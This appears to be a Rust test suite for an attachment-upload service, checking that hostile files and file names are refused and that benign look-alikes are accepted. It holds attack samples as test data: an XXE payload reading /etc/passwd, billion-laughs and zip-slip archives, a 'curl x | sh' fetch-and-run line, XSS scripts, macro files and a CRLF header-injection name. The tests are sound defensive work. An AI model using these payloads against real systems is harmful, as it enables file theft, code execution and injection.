//! Hostile files: each is sent through the front door and refused for its own reason, and good ones that look alike are
//! taken. Hostile names: none leaves the header, the folder, or the disk's limits.

mod made;

use crate::{
    on_both,
    support::{
        World,
        client::{Caller, Reply},
        world::{ATTACHMENT_LIMIT, wait},
    },
};
use base64::{Engine as _, prelude::BASE64_URL_SAFE_NO_PAD};
use jianyi::{
    domain::{
        case::{
            Command, FileFacts,
            procedure::{Action, Target},
        },
        text::Line,
        words::Purpose,
    },
    office,
};
use made::*;
use reqwest::Method;
use serde_json::json;
use std::sync::{Arc, OnceLock};

/// What the refusal says.
const BOMB: &str = "解压后过大";
const BROKEN: &str = "已损坏或不完整";
const MACROS: &str = "含有宏";
const LOCKED: &str = "设有密码";
const ARCHIVE: &str = "压缩包不能接收";
const PAGE: &str = "网页";
const PROGRAM: &str = "程序或脚本";
const TWICE: &str = "两种文件类型";
const DTD: &str = "文档类型定义";
const HUGE: &str = "2.5 亿像素";
const EMPTY: &str = "没有内容";
const OTHER: &str = "不接收这种类型";

type Row = (&'static str, &'static str, Vec<u8>);

/// Name, reason, bytes.
fn hostile() -> &'static [Row] {
    static ROWS: OnceLock<Vec<Row>> = OnceLock::new();
    ROWS.get_or_init(|| {
        let bomb = bomb();
        let evil =
            b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        let laughs = b"<!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>";
        let far = [&vec![b' '; (64 << 10) - 4][..], evil].concat();
        let page = &b"<html><script>alert(1)</script></html>"[..];
        let svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>";
        let exe = &b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0"[..];
        let commented = [&docx(&[])[..], b"PK\x05\x06\0\0"].concat();
        let end = commented.len();
        let commented = [&commented[..end - 8], &[6, 0], &commented[end - 6..]].concat();
        let mut cut = docx(&[]);
        cut.truncate(cut.len() - 30);
        let deep = docx(&[("word/embeddings/a.xlsx", &xlsx(&[("xl/media/a.bmp", &vec![0; 40 << 20])]))]);
        let macros = xlsx(&[("xl/vbaProject.bin", b"x")]);
        vec![
            // Bombs and lies.
            ("flat bomb.docx", BOMB, bomb.clone()),
            ("says 100 bytes.docx", BOMB, lying(100, &bomb)),
            ("says 4 GB.docx", BOMB, lying(u32::MAX - 1, &docx(&[("word/a.xml", b"<a/>")]))),
            ("says one more.docx", BROKEN, lying(5, &docx(&[("word/a.xml", b"<a/>")]))),
            ("head says less.docx", BROKEN, with_field(docx(&[("word/a.xml", b"<a/>")]), 24, &[9])),
            ("packed is longer.docx", BROKEN, with_field(docx(&[("word/a.xml", b"<a/>")]), 20, &[200])),
            ("four deep.docx", BOMB, nested(4)),
            ("bomb in a workbook.docx", BOMB, deep),
            ("overlapping.docx", BROKEN, overlapping()),
            ("unknown packing.docx", BROKEN, with_field(docx(&[("word/a.xml", b"<a/>")]), 10, &[12])),
            // Where it unpacks to.
            ("zip slip.docx", BROKEN, docx(&[("../../etc/cron.d/a", b"x")])),
            ("slip with backslashes.docx", BROKEN, docx(&[("word\\..\\..\\a", b"x")])),
            ("absolute.docx", BROKEN, docx(&[("/etc/passwd", b"x")])),
            ("drive.docx", BROKEN, docx(&[("C:/Windows/a", b"x")])),
            ("link.docx", BROKEN, with_link()),
            ("twice.docx", BROKEN, docx(&[("Word/Document.xml", b"<a/>")])),
            // Read differently by two readers.
            ("something before.docx", BROKEN, [b"PK\x03\x04"[..].to_vec(), docx(&[])].concat()),
            ("something behind.docx", BROKEN, [&docx(&[])[..], page].concat()),
            ("two ends.docx", BROKEN, commented),
            ("cut short.docx", BROKEN, cut),
            ("nothing but a mark.docx", BROKEN, b"PK\x03\x04".to_vec()),
            ("two kinds.docx", TWICE, docx(&[("xl/workbook.xml", b"<a/>")])),
            ("letter and ofd.ofd", TWICE, docx(&[("OFD.xml", b"<a/>")])),
            // Archives that are no documents.
            ("program.zip", ARCHIVE, zip(&[("a.exe", exe)])),
            ("java.jar", ARCHIVE, zip(&[("META-INF/MANIFEST.MF", b"a"), ("A.class", b"b")])),
            ("letter.odt", ARCHIVE, zip(&[("mimetype", b"a"), ("content.xml", b"<a/>")])),
            ("rar.docx", OTHER, b"Rar!\x1a\x07\x01\0\x33\x92\xb5\xe5".to_vec()),
            ("7z.docx", OTHER, b"7z\xbc\xaf\x27\x1c\0\x04\x8d\x9b\xd5\x0f".to_vec()),
            ("gz.txt", OTHER, b"\x1f\x8b\x08\0\0\0\0\0\0\x03".to_vec()),
            // Macros, also in what is embedded.
            ("macros.docm", MACROS, docx(&[("word/vbaProject.bin", b"x")])),
            ("macros.xlsm", MACROS, macros.clone()),
            ("macro sheets.xlsx", MACROS, xlsx(&[("xl/macrosheets/sheet1.xml", b"<a/>")])),
            ("embedded xlsm.docx", MACROS, docx(&[("word/embeddings/a.xlsx", &macros)])),
            (
                "embedded old macros.docx",
                MACROS,
                docx(&[("word/embeddings/a.bin", &old(&["Workbook", "VBA/"]))]),
            ),
            ("macros.doc", MACROS, old(&["WordDocument", "Macros/"])),
            ("macros.xls", MACROS, old(&["Workbook", "_VBA_PROJECT_CUR/"])),
            // Entities.
            ("xxe.docx", DTD, docx_of(evil)),
            ("xxe in utf-16.docx", DTD, docx_of(&utf_16(&String::from_utf8_lossy(evil)))),
            ("xxe across pieces.docx", DTD, docx_of(&far)),
            ("xxe in relations.docx", DTD, docx(&[("word/_rels/document.xml.rels", evil)])),
            ("laughs.xlsx", DTD, xlsx(&[("xl/worksheets/sheet1.xml", laughs)])),
            ("xxe.ofd", DTD, ofd(&[("Doc_0/Pages/Page_0/Content.xml", evil)])),
            // Programs.
            ("exe as pdf.pdf", PROGRAM, exe.to_vec()),
            ("elf.png", PROGRAM, b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec()),
            ("script.txt", PROGRAM, b"#!/bin/sh\ncurl x | sh\n".to_vec()),
            ("class.jpg", PROGRAM, b"\xca\xfe\xba\xbe\0\0\0\x34".to_vec()),
            ("exe inside.docx", PROGRAM, docx(&[("word/media/image1.png", exe)])),
            ("installer.doc", OTHER, old(&["\u{4840}a", "SummaryInformation"])),
            ("shortcut.doc", OTHER, b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F".to_vec()),
            // Pages and pictures.
            ("page before pdf.pdf", PAGE, [page, PDF].concat()),
            ("comment before pdf.pdf", PAGE, [b"<!-- ", PDF].concat()),
            ("gif before pdf.pdf", TWICE, [GIF, PDF].concat()),
            ("zip behind pdf.pdf", TWICE, [PDF, &zip(&[("A.class", b"b")])].concat()),
            ("zip behind picture.png", TWICE, [png(9), zip(&[("A.class", b"b")])].concat()),
            ("svg as png.png", PAGE, svg.to_vec()),
            ("html as png.png", PAGE, page.to_vec()),
            ("html in utf-16.txt", PAGE, [b"\0"[..].to_vec(), page.to_vec()].concat()),
            ("script in text.txt", PAGE, "请看 <script src=//x>".as_bytes().to_vec()),
            ("xml.txt", PAGE, b"<?xml version='1.0'?><a/>".to_vec()),
            ("script as png.png", BROKEN, b"\x89PNG\r\n\x1a\n<script>alert(1)</script>".to_vec()),
            ("huge.png", HUGE, png(100_000)),
            ("huge.jpg", HUGE, jpeg(u16::MAX)),
            ("cut short.jpg", BROKEN, jpeg(9)[..30].to_vec()),
            ("gif.gif", OTHER, GIF.to_vec()),
            ("webp.png", OTHER, b"RIFF\x24\0\0\0WEBPVP8 ".to_vec()),
            ("rtf.doc", OTHER, b"{\\rtf1\\object}".to_vec()),
            // Locked, empty.
            ("locked zip.docx", LOCKED, locked()),
            ("locked.docx", LOCKED, old(&["EncryptedPackage", "EncryptionInfo"])),
            ("empty.pdf", EMPTY, Vec::new()),
            ("blank.txt", EMPTY, b" \r\n\t".to_vec()),
        ]
    })
}

/// Name, media type, bytes.
fn good() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let letter = {
        let mut bytes = std::io::Cursor::new(Vec::new());
        let text = docx_rs::Run::new().add_text("请审阅。");
        let letter = docx_rs::Docx::new().add_paragraph(docx_rs::Paragraph::new().add_run(text));
        letter.build().pack(&mut bytes).unwrap();
        bytes.into_inner()
    };
    let sheet = {
        let mut book = rust_xlsxwriter::Workbook::new();
        book.add_worksheet().write(0, 0, "编号").unwrap();
        book.save_to_buffer().unwrap()
    };
    const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    const PPTX: &str = "application/vnd.openxmlformats-officedocument.presentationml.presentation";
    vec![
        ("公函.pdf", "application/pdf", PDF.to_vec()),
        ("带标记.pdf", "application/pdf", [b"\xef\xbb\xbf", PDF].concat()),
        ("版式.ofd", "application/ofd", ofd(&[("Doc_0/Pages/Page_0/Content.xml", b"<ofd:Page/>")])),
        ("答复.docx", DOCX, letter),
        ("内嵌.docx", DOCX, docx(&[("word/embeddings/a.xlsx", &sheet)])),
        ("三层.docx", DOCX, nested(3)),
        ("大而空.docx", DOCX, docx(&[("word/media/a.bmp", &vec![0; 20 << 20])])),
        ("台账.xlsx", XLSX, sheet.clone()),
        ("汇报.pptx", PPTX, pptx()),
        ("通知.wps", "application/msword", old(&["WordDocument", "1Table"])),
        ("旧表.et", "application/vnd.ms-excel", old(&["Workbook"])),
        ("旧信.doc", "application/msword", old(&["WordDocument", "0Table"])),
        ("图.png", "image/png", png(4_000)),
        ("照片.jpg", "image/jpeg", jpeg(8_000)),
        ("说明.txt", "text/plain", "请看《条例》<试行>，a < b".as_bytes().to_vec()),
        ("国标.txt", "text/plain", encoding_rs::GB18030.encode("区住建局：请阅。").0.into_owned()),
    ]
}

fn draft(world: &World) -> String {
    let draft = json!({"kind": "suggestion", "title": "关于附件安全的建议", "body": "正文"});
    let created = world.deputy().create("/v1/cases", draft).expect(201);
    format!("/v1/cases/{}", created.json["id"].as_str().unwrap())
}

fn attach(caller: &Caller, path: &str, name: &str, bytes: &[u8]) -> Reply {
    let query = form_urlencoded::Serializer::new(String::new())
        .append_pair("name", name)
        .append_pair("purpose", "submission")
        .finish();
    caller
        .ask(Method::POST, &format!("{path}/attachments?{query}"))
        .header("if-match", "*")
        .bytes(bytes)
        .send()
}

/// The files that lie in the store, by their names there.
fn kept(world: &World) -> Vec<String> {
    let sha256 = world.file(&"0".repeat(64));
    let folder = sha256.parent().unwrap().parent().unwrap();
    let folders = folder.read_dir().unwrap().map(|it| it.unwrap().path());
    let files = folders.flat_map(|it| it.read_dir().unwrap());
    files.map(|it| it.unwrap().file_name().into_string().unwrap()).collect()
}

/// What every download must say.
#[track_caller]
fn harmless(download: &Reply) {
    let disposition = download.header("content-disposition");
    assert!(disposition.starts_with("attachment; filename=\""), "{disposition}");
    assert!(disposition.bytes().all(|byte| (0x20..0x7f).contains(&byte)), "{disposition}");
    assert_eq!(disposition.matches('"').count(), 2, "{disposition}");
    assert_eq!(download.header("x-content-type-options"), "nosniff");
    assert_eq!(download.header("content-security-policy"), "sandbox; default-src 'none'");
}

on_both! {
    fn each_hostile_file_is_refused_for_its_own_reason_and_nothing_of_it_is_kept(world) {
        let (deputy, path) = (world.deputy(), draft(world));
        assert!(hostile().len() >= 60, "{}", hostile().len());
        let wrong = hostile().iter().filter_map(|(name, why, bytes)| {
            let refused = attach(&deputy, &path, name, bytes);
            let problem = refused.header("content-type") == "application/problem+json";
            let told = refused.status == 422 && refused.pointers() == [""] && refused.text.contains(why);
            (!problem || !told).then(|| format!("{name}: {} {}", refused.status, refused.json["detail"]))
        });
        assert_eq!(wrong.collect::<Vec<_>>(), [""; 0]);
        // Larger than this service takes at all; whatever the limit, its entries are too many (`files::archive`).
        let many = many_entries();
        assert!(many.len() > ATTACHMENT_LIMIT);
        attach(&deputy, &path, "many.docx", &many).expect(413);
        assert_eq!(deputy.get(&path).json["version"], 1);
        assert_eq!(kept(world), [""; 0]);
    }

    fn good_files_that_look_alike_are_taken_and_given_back_to_be_saved(world) {
        let (deputy, path) = (world.deputy(), draft(world));
        for ((name, media_type, bytes), version) in good().into_iter().zip(1..) {
            let attached = attach(&deputy, &path, name, &bytes);
            assert_eq!(attached.status, 200, "{name}: {}", attached.text);
            let download = deputy.get(&format!("{path}/attachments/{version}")).expect(200);
            assert_eq!((&download.bytes, download.header("content-type")), (&bytes, media_type), "{name}");
            harmless(&download);
        }
    }

    fn a_hostile_name_is_refused_or_made_harmless_and_never_names_a_file_here(world) {
        let (deputy, path) = (world.deputy(), draft(world));
        let turning = ['\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}'];
        let isolating = ['\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}', '\u{200b}', '\u{feff}', '\0', '\r', '\n'];
        let hidden = turning.into_iter().chain(isolating).map(|c| format!("答复{c}fdp.exe"));
        let wide = format!("{}a.pdf", "长".repeat(84));
        let long = format!("{}.pdf", "a".repeat(251));
        let others = ["", " ", ".", "..", "../", ".pdf", "a\r\nSet-Cookie: x=1", &wide, &long];
        for name in hidden.chain(others.map(str::to_owned)) {
            let refused = attach(&deputy, &path, &name, PDF);
            assert_eq!((refused.status, refused.pointers()), (422, vec!["?name".to_owned()]), "{name:?}");
        }
        let widest = format!("{}.pdf", "长".repeat(83));
        let taken = [
            ("a\"; filename=\"b.html", "a_; filename=_b.pdf"),
            ("a';--\\..\\b.pdf", "b.pdf"),
            ("../../etc/passwd", "passwd.pdf"),
            ("C:\\Windows\\system32\\calc.exe", "calc.pdf"),
            ("NUL", "_NUL.pdf"),
            ("con.pdf", "_con.pdf"),
            ("COM1.tar.gz", "_COM1.tar.gz.pdf"),
            ("LPT³.pdf", "_LPT³.pdf"),
            (".htaccess", "htaccess.pdf"),
            ("页面.html", "页面.pdf"),
            ("答复.pdf.exe", "答复.pdf"),
            ("a%0d%0ab%2e%2e.pdf", "a%0d%0ab%2e%2e.pdf"),
            ("trailing. . .", "trailing.pdf"),
            (&widest, &widest),
        ];
        for ((given, name), version) in taken.into_iter().zip(1..) {
            let bytes = [PDF, given.as_bytes()].concat();
            let attached = attach(&deputy, &path, given, &bytes);
            assert_eq!(attached.status, 200, "{given}: {}", attached.text);
            let facts = &attached.json["attachments"].as_array().unwrap().last().unwrap()["file"];
            assert_eq!(facts["name"], name, "{given}");
            harmless(&deputy.get(&format!("{path}/attachments/{version}")).expect(200));
        }
        let kept = kept(world);
        assert_eq!(kept.len(), taken.len());
        for file in kept {
            assert!(file.len() == 64 && file.bytes().all(|b| b.is_ascii_hexdigit()), "{file}");
        }
    }

    fn a_case_has_room_for_so_many_files_and_so_many_bytes(world) {
        let (deputy, path) = (world.deputy(), draft(world));
        for n in 1..=100 {
            attach(&deputy, &path, "一", &[PDF, n.to_string().as_bytes()].concat()).expect(200);
        }
        let refused = attach(&deputy, &path, "一", PDF).expect(422);
        assert_eq!(refused.pointers(), [""]);
        assert!(refused.text.contains("最多 100 个"), "{}", refused.text);

        // 200 MB less ten bytes, as the ledger is told; nobody sends that much in a test.
        let path = draft(world);
        // The token's middle part names the sign-in.
        let token = deputy.token.clone().unwrap();
        let claims = BASE64_URL_SAFE_NO_PAD.decode(token.split('.').nth(1).unwrap()).unwrap();
        let claims: serde_json::Value = serde_json::from_slice(&claims).unwrap();
        let order = office::Order {
            caller: office::Caller {
                who: office::Who::SignIn(
                    claims["sid"].as_str().unwrap().parse().unwrap(),
                    claims["sub"].as_str().unwrap().parse().unwrap(),
                ),
                request_id: "a test".to_owned(),
                address: None,
            },
            case: path.rsplit('/').next().unwrap().parse().unwrap(),
            target: Target::case(Action::Attach),
            precondition: office::Precondition::Any,
            key: None,
            occurred_on: None,
            build: Arc::new(|_, _| {
                Ok(Command::Attach(FileFacts {
                    name: Line::parse("大").map_err(|e| office::Fault::invalid("", &e, &e))?,
                    media_type: "application/pdf".to_owned(),
                    size: (200 << 20) - 10,
                    sha256: "0".repeat(64),
                    purpose: Purpose::Submission,
                    confidential: false,
                }))
            }),
            render: |_| String::new(),
            trial: false,
        };
        wait(world.office.attach(order, bytes::Bytes::from_static(b"big"))).unwrap();
        let refused = attach(&deputy, &path, "一", PDF).expect(422);
        assert_eq!(refused.pointers(), [""]);
        assert!(refused.text.contains("合计最大 200 MB"), "{}", refused.text);
        attach(&deputy, &path, "一", b"text").expect(200);
    }
}
